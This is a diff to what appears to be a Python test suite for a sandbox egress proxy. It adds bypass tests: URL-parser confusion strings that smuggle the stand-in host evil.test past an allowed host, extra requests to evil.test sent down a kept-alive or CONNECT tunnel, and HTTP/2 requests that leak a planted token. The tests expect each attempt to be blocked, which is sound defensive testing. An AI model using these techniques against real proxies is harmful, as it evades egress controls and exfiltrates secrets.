@@ -144,6 +144,58 @@ def via_connect(authority, sni, method, path, host_header, headers=None, body=No
         return err_name(e), ""
 
 
+def second_request_on_same_connection(tunnel):
+    """First an allowed request, then one for evil.test on the SAME connection: egress
+    must judge every request, not just the connection's first."""
+    try:
+        s = socket.create_connection(PROXY, timeout=TIMEOUT)
+        if tunnel:
+            s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n"
+                       % (ALLOWED, ALLOWED)).encode())
+            status, _, _ = recv_head(s)
+            if status != 200:
+                return "connect-%d" % status
+            s = ssl.create_default_context(cafile=CA).wrap_socket(s, server_hostname=ALLOWED)
+            # The route's HTTPS upstream is unreachable (a 502 closes), so the first
+            # request is one egress answers itself without closing: a DLP block.
+            first = ("GET /first HTTP/1.1\r\nHost: %s\r\nX-Custom: %s\r\n\r\n"
+                     % (ALLOWED, unhide(P["planted_hex"]["planted-ghp"])))
+            second = "GET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+        else:
+            first = ("GET http://%s:%d/first HTTP/1.1\r\nHost: %s:%d\r\n\r\n"
+                     % (ALLOWED, PORT, ALLOWED, PORT))
+            second = "GET http://evil.test/second HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+        s.sendall(first.encode())
+        recv_head(s)  # whatever the first gets (the HTTPS upstream is not reachable)
+        s.sendall(second.encode())
+        status, hdrs, text = recv_head(s)
+        s.close()
+        if status == 0:
+            return "closed"
+        return judge_response(status, hdrs.get("x-bottle-block"), text)
+    except Exception as e:
+        return err_name(e)
+
+
+def plain_http_inside_tunnel():
+    """CONNECT to the allowed host, then speak plain HTTP for another host inside."""
+    try:
+        s = socket.create_connection(PROXY, timeout=TIMEOUT)
+        s.sendall(("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n"
+                   % (ALLOWED, PORT, ALLOWED, PORT)).encode())
+        status, hdrs, text = recv_head(s)
+        if status != 200:
+            return judge_response(status, hdrs.get("x-bottle-block"), text)
+        s.sendall(b"GET /inner HTTP/1.1\r\nHost: evil.test\r\n\r\n")
+        status, hdrs, text = recv_head(s)
+        s.close()
+        if status == 0:
+            return "closed"
+        return judge_response(status, hdrs.get("x-bottle-block"), text)
+    except Exception as e:
+        return err_name(e)
+
+
 def raw_connect(addr, family=socket.AF_INET):
     """Direct TCP, no proxy; returns (outcome, milliseconds)."""
     start = time.monotonic()
@@ -186,6 +238,8 @@ HTTPS_BODY_SKIP = ("needs an HTTPS upstream egress trusts: the orchestrator pass
                    "--upstream-ca; the http-*-body cases cover body DLP")
 BLOCK_HOST = ["403:host_not_allowed"]
 BLOCK_HOST_OR_MISMATCH = ["403:host_not_allowed", "403:host_mismatch"]
+# A request egress cannot parse safely is refused outright (SPEC §4.2.1: 400).
+REFUSED_AS_MALFORMED = ["400", "403:bad_request", "ECONNRESET"]
 BLOCK_DLP = ["403:dlp_outbound"]
 NET = ["ENETUNREACH", "ECONNREFUSED", "EHOSTUNREACH"]
 
@@ -328,6 +382,20 @@ def attack2():
          ["curl-connect-403"])
     out, _ = curl("-H", "Host: " + ALLOWED, "http://evil.test:%d/resolve" % PORT)
     emit("2", "curl-http-host-spoof", out, BLOCK_HOST_OR_MISMATCH)
+    # URL parser confusion: which of the two names does egress judge, which one dial?
+    for url in ("http://%s:%d@evil.test/" % (ALLOWED, PORT),
+                "http://evil.test#@%s:%d/" % (ALLOWED, PORT),
+                "http://evil.test\\@%s:%d/" % (ALLOWED, PORT),
+                "http://evil.test%%2f@%s:%d/" % (ALLOWED, PORT),
+                "http://%s.:%d/" % ("evil.test", PORT)):
+        out, _ = via_proxy("GET", url, host_header=urllib.parse.urlsplit(url).netloc)
+        emit("2", "url-confusion " + url, out, BLOCK_HOST_OR_MISMATCH + REFUSED_AS_MALFORMED)
+    emit("2", "keepalive-second-request-evil", second_request_on_same_connection(False),
+         BLOCK_HOST_OR_MISMATCH)
+    emit("2", "tunnel-second-request-evil", second_request_on_same_connection(True),
+         BLOCK_HOST_OR_MISMATCH)
+    emit("2", "plain-http-inside-tunnel-evil", plain_http_inside_tunnel(),
+         BLOCK_HOST_OR_MISMATCH + REFUSED_AS_MALFORMED + ["closed"])
     # Around the proxy: the pinned address is the host's loopback, not the bottle's.
     out, _ = curl("--noproxy", "*", "--resolve", "%s:%d:127.0.0.1" % (ALLOWED, PORT),
                   "http://%s:%d/direct" % (ALLOWED, PORT))
@@ -366,6 +434,15 @@ def attack3(secrets):
                 out, _ = via_connect(ALLOWED + ":443", ALLOWED, c["method"], c["path"], ALLOWED,
                                      headers=c.get("headers"), body=c.get("body"))
                 emit("3", "https-" + tag, out, BLOCK_DLP)
+
+
+def attack3_h2(secrets):
+    ghp = secrets["planted-ghp"]
+    for where, extra in (("path", ["https://%s/leak/%s" % (ALLOWED, ghp)]),
+                         ("query", ["https://%s/leak?q=%s" % (ALLOWED, ghp)]),
+                         ("header", ["-H", "X-Custom: " + ghp, "https://%s/leak" % ALLOWED])):
+        out, _ = curl("--http2", *extra)
+        emit("3", "h2-curl-planted-ghp-raw-" + where, out, BLOCK_DLP)
 
 
 def dns_query(server, name="example.com", family=socket.AF_INET):
@@ -496,6 +573,7 @@ def main():
     attack1()
     attack2()
     attack3(secrets)
+    attack3_h2(secrets)
     attack4(secrets)
     attack5()
     attack6()
